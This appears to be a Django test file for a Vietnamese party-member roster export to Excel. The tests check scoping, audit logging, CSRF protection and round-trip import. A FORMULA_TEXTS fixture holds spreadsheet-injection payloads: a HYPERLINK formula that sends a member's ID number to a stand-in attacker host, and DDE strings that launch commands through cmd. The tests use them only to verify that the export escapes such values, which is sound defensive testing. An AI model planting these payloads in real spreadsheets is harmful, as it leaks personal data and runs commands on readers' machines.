"""Roster export: the filtered list as .xlsx, logged, in the import's layout so that a round trip changes nothing."""

import io
import re
import zipfile

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditAction, AuditEvent
from members import roster_services
from members.models import Member, RosterImport
from members.roster import COLUMNS, write_roster
from partyorg.lib.spreadsheet import FORMULA_STARTS
from tests.factories import make_member

from .test_roster_import import import_file


def export(client, **params):
    response = client.post(reverse("members:export"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return response


def sheet_rows(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    return list(sheet.iter_rows(values_only=True))


def test_export_has_the_import_columns_and_the_filtered_members(client, personas, members):
    client.force_login(personas.superior)
    header, *rows = sheet_rows(export(client, gender="female"))
    assert list(header) == [column.header for column in COLUMNS]
    name, personal_id = header.index("Họ và tên"), header.index("Số CCCD")
    assert [(r[name], r[personal_id]) for r in rows] == [("Lê Thị Yến", members.yen.personal_id)]


def test_export_stays_inside_the_scope(client, personas, members):
    client.force_login(personas.secretary_a)
    header, *rows = sheet_rows(export(client))
    name = header.index("Họ và tên")
    assert sorted(r[name] for r in rows) == ["Nguyễn Văn An", "Trần Đức Đạt"]


def test_every_export_of_personal_data_is_logged(client, personas, members):
    client.force_login(personas.base)
    export(client, q="nguyen")
    event = AuditEvent.objects.get(action=AuditAction.EXPORT_PERSONAL_DATA)
    assert (event.actor, event.record_count) == (personas.base, 1)
    assert event.details["filters"] == {"q": "nguyen"}


def test_member_list_export_form_posts_the_filters_with_a_csrf_token(client, personas, members):
    client.force_login(personas.superior)
    page = client.get(reverse("members:list"), {"gender": "female", "page": "1"}).content.decode()
    form = re.search(r'<form method="post" action="([^"]+)" id="member-export">(.*?)</form>', page, re.S)
    assert form and form[1] == reverse("members:export")
    assert 'name="csrfmiddlewaretoken"' in form[2]
    assert '<input type="hidden" name="gender" value="female">' in form[2] and 'name="page"' not in form[2]


def test_export_is_not_a_get_and_needs_the_csrf_token(personas, members):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(personas.superior)
    assert client.get(reverse("members:export"), {"gender": "female"}).status_code == 405
    assert client.post(reverse("members:export"), {"gender": "female"}).status_code == 403
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT_PERSONAL_DATA).exists()


def test_export_queries_do_not_grow_with_the_members(client, personas, members, tree):
    client.force_login(personas.superior)

    def queries():
        with CaptureQueriesContext(connection) as context:
            export(client)
        return len(context.captured_queries)

    few = queries()
    for i in range(30):
        make_member(tree.branch_b, personas.admin, full_name=f"Đảng viên Số {i}")
    assert queries() == few


def test_export_then_import_changes_nothing(client, personas, members, tree):
    # A member with every exported field filled, so that the round trip covers them all.
    make_member(
        tree.branch_b,
        personas.admin,
        full_name="ĐỖ THỊ HỒNG",
        gender="female",
        other_name="Hồng Nhung",
        home_town="Hiệp Hòa, Bắc Giang",
        permanent_address="Số 5, tổ 3",
        temporary_address="Hà Nội",
        ethnicity="H'Mông",
        religion="Công giáo",
        occupation="Giáo viên",
        general_education="12/12",
        professional_level="Đại học",
        academic_degree="thac_si",
        political_theory="trung_cap",
        foreign_language="Anh B1",
        profile_number="0012345678",
        card_number="012345678901",
    )
    client.force_login(personas.superior)
    response = export(client)
    snapshot = {m.pk: m for m in Member.objects.all()}
    history_count = Member.history.count()
    stream = io.BytesIO(response.content)
    stream.name = "xuat.xlsx"
    roster_import = import_file(personas.superior, tree.ward, stream)
    assert roster_import.report["problems"] == []
    assert roster_import.status == RosterImport.Status.DONE
    assert (roster_import.new_count, roster_import.update_count, roster_import.unchanged_count) == (0, 0, 5)
    assert Member.history.count() == history_count
    fields = [f.attname for f in Member._meta.concrete_fields]
    for member in Member.objects.all():
        before = snapshot[member.pk]
        assert [getattr(member, f) for f in fields] == [getattr(before, f) for f in fields]


# Texts a spreadsheet would take for formulas: a link that carries the CCCD away, a command (DDE), and
# harmless texts that merely start with the same characters (a phone number, a dash).
FORMULA_TEXTS = {
    "full_name": '=HYPERLINK("https://ke-xau.example/?"&I2,"Xem")',
    "other_name": "-Bé Ba-",
    "home_town": "+84 912 345 678",
    "permanent_address": "=cmd|' /C calc'!A0",
    "temporary_address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "occupation": "'=đã có dấu nháy",
    "professional_level": "-1",
}


def test_member_texts_are_written_as_text_never_as_formulas(client, personas, members, tree):
    make_member(tree.branch_b, personas.admin, **FORMULA_TEXTS)
    client.force_login(personas.superior)
    content = export(client).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    # Read as Excel would (formulas, not cached values): no text cell starts like a formula.
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    texts = [value for row in rows for value in row if isinstance(value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    for value in FORMULA_TEXTS.values():
        assert "'" + value in texts


def test_member_texts_like_formulas_survive_the_round_trip(client, personas, members, tree):
    member = make_member(tree.branch_b, personas.admin, **FORMULA_TEXTS)
    client.force_login(personas.superior)
    stream = io.BytesIO(export(client).content)
    stream.name = "xuat.xlsx"
    roster_import = import_file(personas.superior, tree.ward, stream)
    assert roster_import.status == RosterImport.Status.DONE, roster_import.report
    assert (roster_import.new_count, roster_import.update_count) == (0, 0)
    member.refresh_from_db()
    assert {name: getattr(member, name) for name in FORMULA_TEXTS} == FORMULA_TEXTS


def test_branch_names_are_written_as_text_too(personas, members, tree):
    tree.branch_a.name = "=1+1"
    tree.branch_a.save()
    stream = io.BytesIO()
    write_roster(Member.objects.filter(branch=tree.branch_a).select_related("branch"), stream)
    header, *rows = sheet_rows_from(stream)
    assert {row[header.index("Chi bộ")] for row in rows} == {"'=1+1"}


def test_export_service_counts_rows(personas, members):
    stream = io.BytesIO()
    count = roster_services.export_roster(actor=personas.admin, members=Member.objects.all(), stream=stream, filters={})
    assert count == 5 and len(sheet_rows_from(stream)) == 6


def sheet_rows_from(stream):
    stream.seek(0)
    return list(load_workbook(stream, read_only=True).active.iter_rows(values_only=True))
